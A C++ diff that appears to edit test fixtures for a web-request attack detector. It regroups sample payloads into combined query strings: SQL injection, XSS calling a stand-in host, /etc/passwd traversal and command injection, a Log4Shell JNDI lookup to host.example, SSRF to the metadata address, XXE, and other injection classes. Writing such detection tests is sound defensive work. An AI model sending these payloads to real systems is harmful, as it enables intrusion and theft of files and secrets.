@@ -12,22 +12,12 @@ namespace {
 constexpr std::string_view kCountries[] = {"DE", "JP", "FR", "BR", "US", "xx", ""};
 constexpr std::string_view kPaths[] = {"/login",      "/login",       "/wp-login.php", "/api/login",
                                        "/xmlrpc.php", "/oauth/token", "/session",      "/cart"};
-/// One of each class that a detector of requests looks for.
-constexpr std::string_view kAttacks[] = {"id=7'+or+3%3D3--+",
-                                         "q=<script>fetch('//x/')</script>",
-                                         "f=../../../../etc/passwd",
-                                         "h=x;cat+/etc/passwd",
-                                         "t={{7*7}}",
-                                         "u=${jndi:ldap://host.example/a}",
-                                         "c=<?php echo 1;",
-                                         "o=O:8:\"stdClass\":0:{}",
-                                         "h=http://169.254.169.254/",
-                                         "n[$ne]=1",
-                                         "l=*)(uid=*",
-                                         "x='+or+count(//a)%3D1+or+'a'%3D'b",
-                                         "d=<!ENTITY+a+SYSTEM+'file:///b'>",
-                                         "r=a%0d%0aSet-Cookie:+b",
-                                         "__proto__[a]=1"};
+/// Of each class that a detector of requests looks for, some in a request.
+constexpr std::string_view kAttacks[] = {
+    "id=7'+or+3%3D3--+&t={{7*7}}&u=${jndi:ldap://host.example/a}&c=<?php echo 1;",
+    "q=<script>fetch('//x/')</script>&o=O:8:\"stdClass\":0:{}&a=http://169.254.169.254/&n[$ne]=1",
+    "f=../../../../etc/passwd&l=*)(uid=*&x='+or+count(//a)%3D1+or+'a'%3D'b&d=<!ENTITY+a+SYSTEM+'file:///b'>",
+    "h=x;cat+/etc/passwd&r=a%0d%0aSet-Cookie:+b&__proto__[a]=1"};
 constexpr std::int64_t kStatuses[] = {401, 401, 200, 200, 302, 429, 404, 500};
 constexpr Field kAddedBySources[] = {Field::Service,    Field::SourceCountry, Field::UserExists, Field::Method,
                                      Field::SourceHost, Field::SourceAsn,     Field::RepeatCount};
